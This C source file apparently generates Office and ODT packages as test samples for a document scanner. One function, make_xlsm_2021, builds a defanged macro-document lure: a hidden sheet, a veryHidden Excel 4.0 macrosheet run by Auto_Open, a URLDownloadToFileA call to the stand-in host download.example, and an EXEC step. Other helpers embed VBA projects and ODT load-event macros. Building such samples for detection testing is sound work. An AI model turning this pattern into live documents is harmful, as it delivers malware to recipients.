#include "make/ooxml.h"

#include <string.h>
#include <zlib.h>

#include "base/text.h"
#include "make/zip.h"

#define MOST (64u << 20)
#define PARTS 64
#define HEADER "<?xml version=\"1.0\" encoding=\"UTF-8\" standalone=\"yes\"?>\n"
#define TYPES_NS "http://schemas.openxmlformats.org/package/2006/content-types"
#define RELATIONS_NS "http://schemas.openxmlformats.org/package/2006/relationships"
#define OFFICE_NS "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
#define WORD_NS "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
#define EXCEL_NS "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
#define SLIDE_NS "http://schemas.openxmlformats.org/presentationml/2006/main"
#define DRAWING_NS "http://schemas.openxmlformats.org/drawingml/2006/main"

sk_bytes make_package(sk_arena *a, const make_part *parts, size_t count)
{
    make_zip_entry *entries = SK_NEW_ARRAY(a, make_zip_entry, count);
    if (!entries) return (sk_bytes){NULL, 0};
    for (size_t i = 0; i < count; i++)
        entries[i] = (make_zip_entry){
            .name = parts[i].name, .data = parts[i].bytes, .method = parts[i].bytes.len > 4096 ? 8 : 0};
    return make_zip(a, entries, count, NULL);
}

/* --- text --- */

static void put_escaped(sk_buf *b, const char *text)
{
    for (; *text; text++) {
        if (*text == '&') sk_buf_str(b, "&amp;");
        else if (*text == '<') sk_buf_str(b, "&lt;");
        else if (*text == '>') sk_buf_str(b, "&gt;");
        else if (*text == '"') sk_buf_str(b, "&quot;");
        else sk_buf_byte(b, (uint8_t)*text);
    }
}

/* One element around each line of text. */
static void put_paragraphs(sk_buf *b, const char *text, const char *before, const char *after)
{
    while (text && *text) {
        size_t len = strcspn(text, "\n");
        char line[1024];
        size_t fit = len < sizeof line ? len : sizeof line - 1;
        sk_copy_out(sk_bytes_of(text, fit), (uint8_t *)line, fit);
        line[fit] = 0;
        sk_buf_str(b, before);
        put_escaped(b, line);
        sk_buf_str(b, after);
        text += len + (text[len] == '\n');
    }
}

static void put_base64(sk_buf *b, sk_bytes bytes)
{
    static const char letters[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    for (size_t i = 0; i < bytes.len; i += 3) {
        uint32_t v = 0;
        for (size_t k = 0; k < 3; k++) v = v << 8 | (uint32_t)(sk_at(bytes, i + k) < 0 ? 0 : sk_at(bytes, i + k));
        for (size_t k = 0; k < 4; k++)
            sk_buf_byte(b, (uint8_t)(i + k <= bytes.len ? letters[v >> (18 - 6 * k) & 63] : '='));
    }
}

/* --- packages --- */

struct package {
    sk_arena *a;
    make_part parts[PARTS];
    size_t count;
    sk_buf types, relations; /* of the main part */
};

static void add(struct package *p, const char *name, sk_bytes bytes)
{
    if (p->count < PARTS) p->parts[p->count++] = (make_part){name, bytes};
}

static void add_type(struct package *p, const char *name, const char *type)
{
    sk_buf_format(&p->types, "<Override PartName=\"/%s\" ContentType=\"%s\"/>", name, type);
}

static void add_relation(struct package *p, const char *id, const char *type, const char *target)
{
    sk_buf_format(&p->relations, "<Relationship Id=\"%s\" Type=\"" OFFICE_NS "/%s\" Target=\"%s\"/>", id, type, target);
}

static struct package *begin(sk_arena *a)
{
    struct package *p = SK_NEW(a, struct package);
    if (!p) return NULL;
    p->a = a;
    p->types = sk_buf_new(a, MOST);
    p->relations = sk_buf_new(a, MOST);
    p->count = 1; /* [Content_Types].xml comes first and is known last */
    return p;
}

static void add_office(struct package *p, const make_office *office, const char *folder, const char *main)
{
    sk_arena *a = p->a;
    if (office->vba.len > 0) {
        const char *name = sk_text_format(a, "%s/vbaProject.bin", folder);
        add(p, name, office->vba);
        add_type(p, name, "application/vnd.ms-office.vbaProject");
        sk_buf_str(
            &p->relations,
            "<Relationship Id=\"rIdVba\" Type=\"http://schemas.microsoft.com/office/2006/relationships/vbaProject\""
            " Target=\"vbaProject.bin\"/>");
    }
    if (office->relations) sk_buf_str(&p->relations, office->relations);
    add(p, sk_text_format(a, "%s/_rels/%s.rels", folder, main),
        sk_text_bytes(a, HEADER "<Relationships xmlns=\"" RELATIONS_NS "\">%.*s</Relationships>", (int)p->relations.len,
                      (const char *)p->relations.p));
    if (office->title) {
        sk_buf core = sk_buf_new(a, MOST);
        sk_buf_str(
            &core, HEADER
            "<cp:coreProperties xmlns:cp=\"http://schemas.openxmlformats.org/package/2006/metadata/core-properties\""
            " xmlns:dc=\"http://purl.org/dc/elements/1.1/\"><dc:title>");
        put_escaped(&core, office->title);
        sk_buf_str(&core, "</dc:title><dc:creator>A. Writer</dc:creator></cp:coreProperties>");
        add(p, "docProps/core.xml", sk_buf_view(&core));
        add_type(p, "docProps/core.xml", "application/vnd.openxmlformats-package.core-properties+xml");
    }
    add(p, "_rels/.rels",
        sk_text_bytes(a,
                      HEADER "<Relationships xmlns=\"" RELATIONS_NS "\"><Relationship Id=\"rId1\" Type=\"" OFFICE_NS
                             "/officeDocument\" Target=\"%s/%s\"/></Relationships>",
                      folder, main));
    for (size_t i = 0; i < office->extra_count; i++) add(p, office->extra[i].name, office->extra[i].bytes);
}

static sk_bytes finish(struct package *p)
{
    p->parts[0] = (make_part){
        "[Content_Types].xml",
        sk_text_bytes(p->a,
                      HEADER "<Types xmlns=\"" TYPES_NS "\"><Default Extension=\"rels\" ContentType=\"application/"
                             "vnd.openxmlformats-package.relationships+xml\"/><Default Extension=\"xml\" "
                             "ContentType=\"application/xml\"/><Default Extension=\"bin\" ContentType=\""
                             "application/vnd.ms-office.vbaProject\"/>%.*s</Types>",
                      (int)p->types.len, (const char *)p->types.p)};
    return make_package(p->a, p->parts, p->count);
}

sk_bytes make_docx(sk_arena *a, const make_office *office, const char *text, const char *body)
{
    struct package *p = begin(a);
    if (!p) return (sk_bytes){NULL, 0};
    sk_buf document = sk_buf_new(a, MOST);
    sk_buf_str(&document, HEADER "<w:document xmlns:w=\"" WORD_NS "\" xmlns:r=\"" OFFICE_NS "\"><w:body>");
    if (body) sk_buf_str(&document, body);
    else put_paragraphs(&document, text, "<w:p><w:r><w:t xml:space=\"preserve\">", "</w:t></w:r></w:p>");
    sk_buf_str(&document, "</w:body></w:document>");
    add(p, "word/document.xml", sk_buf_view(&document));
    add_type(p, "word/document.xml",
             office->macro_enabled
                 ? "application/vnd.ms-word.document.macroEnabled.main+xml"
                 : "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml");
    add_office(p, office, "word", "document.xml");
    return finish(p);
}

static sk_bytes make_sheet(sk_arena *a, const make_xlsx_sheet *sheet)
{
    sk_buf b = sk_buf_new(a, MOST);
    sk_buf_format(&b, HEADER "<%s xmlns%s=\"%s\"%s>", sheet->macro ? "xm:macrosheet" : "worksheet",
                  sheet->macro ? ":xm" : "",
                  sheet->macro ? "http://schemas.microsoft.com/office/excel/2006/main" : EXCEL_NS,
                  sheet->macro ? " xmlns=\"" EXCEL_NS "\"" : "");
    if (sheet->head) sk_buf_str(&b, sheet->head);
    sk_buf_str(&b, "<sheetData>");
    for (size_t i = 0; i < sheet->cell_count; i++) {
        const make_xlsx_cell *c = &sheet->cells[i];
        const char *number = c->address + strcspn(c->address, "0123456789");
        if (sheet->looks)
            sk_buf_format(&b, "<row r=\"%s\" %s><c r=\"%s\" s=\"%u\" t=\"str\">", number,
                          sheet->looks[i].row ? sheet->looks[i].row : "", c->address, sheet->looks[i].style);
        else sk_buf_format(&b, "<row r=\"%s\"><c r=\"%s\" t=\"str\">", number, c->address);
        if (c->formula) {
            sk_buf_str(&b, "<f>");
            put_escaped(&b, c->formula);
            sk_buf_str(&b, "</f>");
        }
        if (c->value) {
            sk_buf_str(&b, "<v>");
            put_escaped(&b, c->value);
            sk_buf_str(&b, "</v>");
        }
        sk_buf_str(&b, "</c></row>");
    }
    sk_buf_format(&b, "</sheetData></%s>", sheet->macro ? "xm:macrosheet" : "worksheet");
    return sk_buf_view(&b);
}

static void add_sheet(struct package *p, const make_xlsx_sheet *sheet, size_t i, sk_buf *book)
{
    sk_arena *a = p->a;
    const char *target = sk_text_format(a, "%s/sheet%zu.xml", sheet->macro ? "macrosheets" : "worksheets", i + 1);
    const char *name = sk_text_format(a, "xl/%s", target);
    add(p, name, make_sheet(a, sheet));
    add_type(p, name, sheet->macro ? "application/vnd.ms-excel.macrosheet+xml"
                                   : "application/vnd.openxmlformats-officedocument.spreadsheetml.worksheet+xml");
    sk_buf_format(book, "<sheet name=\"%s\" sheetId=\"%zu\"%s%s%s r:id=\"rId%zu\"/>", sheet->name, i + 1,
                  sheet->state ? " state=\"" : "", sheet->state ? sheet->state : "", sheet->state ? "\"" : "", i + 1);
    if (sheet->macro)
        sk_buf_format(
            &p->relations,
            "<Relationship Id=\"rId%zu\" Type=\"http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet\""
            " Target=\"%s\"/>",
            i + 1, target);
    else add_relation(p, sk_text_format(a, "rId%zu", i + 1), "worksheet", target);
}

sk_bytes make_xlsx(sk_arena *a, const make_office *office, const make_xlsx_sheet *sheets, size_t count,
                   const char *names)
{
    struct package *p = begin(a);
    if (!p) return (sk_bytes){NULL, 0};
    sk_buf book = sk_buf_new(a, MOST);
    sk_buf_str(&book, HEADER "<workbook xmlns=\"" EXCEL_NS "\" xmlns:r=\"" OFFICE_NS "\"><sheets>");
    for (size_t i = 0; i < count; i++) add_sheet(p, &sheets[i], i, &book);
    sk_buf_str(&book, "</sheets>");
    if (names) sk_buf_format(&book, "<definedNames>%s</definedNames>", names);
    sk_buf_str(&book, "</workbook>");
    add(p, "xl/workbook.xml", sk_buf_view(&book));
    add_type(p, "xl/workbook.xml",
             office->macro_enabled ? "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
                                   : "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet.main+xml");
    add_office(p, office, "xl", "workbook.xml");
    return finish(p);
}

sk_bytes make_pptx(sk_arena *a, const make_office *office, const char *const *slides, size_t count)
{
    struct package *p = begin(a);
    if (!p) return (sk_bytes){NULL, 0};
    sk_buf ids = sk_buf_new(a, MOST);
    for (size_t i = 0; i < count; i++) {
        sk_buf slide = sk_buf_new(a, MOST);
        sk_buf_str(&slide, HEADER "<p:sld xmlns:p=\"" SLIDE_NS "\" xmlns:a=\"" DRAWING_NS
                                  "\"><p:cSld><p:spTree><p:sp><p:nvSpPr>"
                                  "<p:cNvPr id=\"2\" name=\"Title 1\"/></p:nvSpPr><p:txBody>");
        put_paragraphs(&slide, slides[i], "<a:p><a:r><a:t>", "</a:t></a:r></a:p>");
        sk_buf_str(&slide, "</p:txBody></p:sp></p:spTree></p:cSld></p:sld>");
        add(p, sk_text_format(a, "ppt/slides/slide%zu.xml", i + 1), sk_buf_view(&slide));
        add_relation(p, sk_text_format(a, "rId%zu", i + 1), "slide", sk_text_format(a, "slides/slide%zu.xml", i + 1));
        sk_buf_format(&ids, "<p:sldId id=\"%zu\" r:id=\"rId%zu\"/>", i + 256, i + 1);
    }
    add(p, "ppt/presentation.xml",
        sk_text_bytes(a,
                      HEADER "<p:presentation xmlns:p=\"" SLIDE_NS "\" xmlns:r=\"" OFFICE_NS
                             "\"><p:sldIdLst>%.*s</p:sldIdLst>"
                             "</p:presentation>",
                      (int)ids.len, (const char *)ids.p));
    add_type(p, "ppt/presentation.xml",
             office->macro_enabled
                 ? "application/vnd.ms-powerpoint.presentation.macroEnabled.main+xml"
                 : "application/vnd.openxmlformats-officedocument.presentationml.presentation.main+xml");
    add_office(p, office, "ppt", "presentation.xml");
    return finish(p);
}

sk_bytes make_xlsm_2021(sk_arena *a)
{
    static const make_xlsx_cell lure[] = {
        {"B2", "This document was made in an earlier version. Enable content to see it.", NULL}};
    static const make_xlsx_cell parts[] = {
        {"A1", "https://down", NULL}, {"A2", "load.example/", NULL}, {"A3", "no-such-file.txt", NULL}};
    static const make_xlsx_cell macro[] = {
        {"A1", NULL,
         "FORMULA(\"=CALL(\"\"urlmon\"\",\"\"URLDownloadToFileA\"\",\"\"JJCCBB\"\",0,\"\"\"&Parts!A1&Parts!A2&Parts!A3&"
         "\"\"\",\"\"no-such-file.txt\"\",0,0)\",A3)"},
        {"A2", NULL, "FORMULA(\"=EXEC(\"\"no-such-program.invalid no-such-file.txt\"\")\",A4)"},
        {"A5", NULL, "RETURN()"}};
    const make_xlsx_sheet sheets[] = {
        {.name = "Sheet1", .cells = lure, .cell_count = SK_COUNT(lure)},
        {.name = "Parts", .state = "hidden", .cells = parts, .cell_count = SK_COUNT(parts)},
        {.name = "Macro1", .state = "veryHidden", .macro = true, .cells = macro, .cell_count = SK_COUNT(macro)}};
    return make_xlsx(a, &(make_office){.macro_enabled = true, .title = "Invoice"}, sheets, SK_COUNT(sheets),
                     "<definedName name=\"_xlnm.Auto_Open\" hidden=\"1\">Macro1!$A$1</definedName>");
}

/* --- one file --- */

sk_bytes make_flat_package(sk_arena *a, const make_part *parts, size_t count)
{
    sk_buf b = sk_buf_new(a, MOST);
    sk_buf_str(&b, HEADER "<?mso-application progid=\"Word.Document\"?><pkg:package "
                          "xmlns:pkg=\"http://schemas.microsoft.com/office/2006/xmlPackage\">");
    for (size_t i = 0; i < count; i++) {
        bool xml = sk_at(parts[i].bytes, 0) == '<';
        sk_buf_format(&b, "<pkg:part pkg:name=\"/%s\" pkg:contentType=\"application/xml\">", parts[i].name);
        sk_buf_str(&b, xml ? "<pkg:xmlData>" : "<pkg:binaryData>");
        if (xml) sk_buf_bytes(&b, parts[i].bytes);
        else put_base64(&b, parts[i].bytes);
        sk_buf_str(&b, xml ? "</pkg:xmlData></pkg:part>" : "</pkg:binaryData></pkg:part>");
    }
    sk_buf_str(&b, "</pkg:package>");
    return sk_buf_view(&b);
}

sk_bytes make_word2003(sk_arena *a, const char *body, sk_bytes data)
{
    sk_buf b = sk_buf_new(a, MOST);
    sk_buf_str(
        &b, HEADER
        "<?mso-application progid=\"Word.Document\"?><w:wordDocument "
        "xmlns:w=\"http://schemas.microsoft.com/office/word/2003/"
        "wordml\" xmlns:o=\"urn:schemas-microsoft-com:office:office\" w:macrosPresent=\"yes\"><o:DocumentProperties>"
        "<o:Author>A. Writer</o:Author></o:DocumentProperties>");
    if (data.len > 0) {
        sk_buf_str(&b, "<w:docSuppData><w:binData w:name=\"editdata.mso\">");
        put_base64(&b, data);
        sk_buf_str(&b, "</w:binData></w:docSuppData>");
    }
    sk_buf_format(&b, "<w:body>%s</w:body></w:wordDocument>", body);
    return sk_buf_view(&b);
}

sk_bytes make_activemime(sk_arena *a, sk_bytes bytes)
{
    sk_buf b = sk_buf_new(a, MOST);
    uLongf len = compressBound((uLong)bytes.len);
    uint8_t *packed = sk_arena_take(a, len, 1);
    if (!packed || compress(packed, &len, bytes.p, (uLong)bytes.len) != Z_OK) return (sk_bytes){NULL, 0};
    sk_buf_str(&b, "ActiveMime");
    make_zeros(&b, 0x32 - b.len);
    sk_buf_bytes(&b, sk_bytes_of(packed, len));
    return sk_buf_view(&b);
}

sk_bytes make_odt(sk_arena *a, const char *text, const char *module)
{
    make_part parts[5] = {{"mimetype", SK_LIT("application/vnd.oasis.opendocument.text")}};
    size_t count = 1;
    sk_buf content = sk_buf_new(a, MOST);
    sk_buf_str(
        &content, HEADER
        "<office:document-content xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\" xmlns:text=\""
        "urn:oasis:names:tc:opendocument:xmlns:text:1.0\" "
        "xmlns:script=\"urn:oasis:names:tc:opendocument:xmlns:script:1.0\""
        " xmlns:xlink=\"http://www.w3.org/1999/xlink\">");
    if (module)
        sk_buf_str(&content,
                   "<office:scripts><office:event-listeners><script:event-listener script:event-name=\"dom:load\" "
                   "xlink:href=\"vnd.sun.star.script:Standard.Module1.Main?language=Basic\"/></"
                   "office:event-listeners></office:scripts>");
    sk_buf_str(&content, "<office:body><office:text>");
    put_paragraphs(&content, text, "<text:p>", "</text:p>");
    sk_buf_str(&content, "</office:text></office:body></office:document-content>");
    parts[count++] = (make_part){"content.xml", sk_buf_view(&content)};
    if (module) {
        sk_buf b = sk_buf_new(a, MOST);
        sk_buf_str(&b, HEADER "<script:module xmlns:script=\"http://openoffice.org/2000/script\" "
                              "script:name=\"Module1\" script:language=\"StarBasic\">");
        put_escaped(&b, module);
        sk_buf_str(&b, "</script:module>");
        parts[count++] = (make_part){"Basic/Standard/Module1.xml", sk_buf_view(&b)};
    }
    parts[count++] = (make_part){
        "META-INF/manifest.xml",
        SK_LIT(HEADER "<manifest:manifest xmlns:manifest=\"urn:oasis:names:tc:opendocument:xmlns:manifest:1.0\"/>")};
    return make_package(a, parts, count);
}
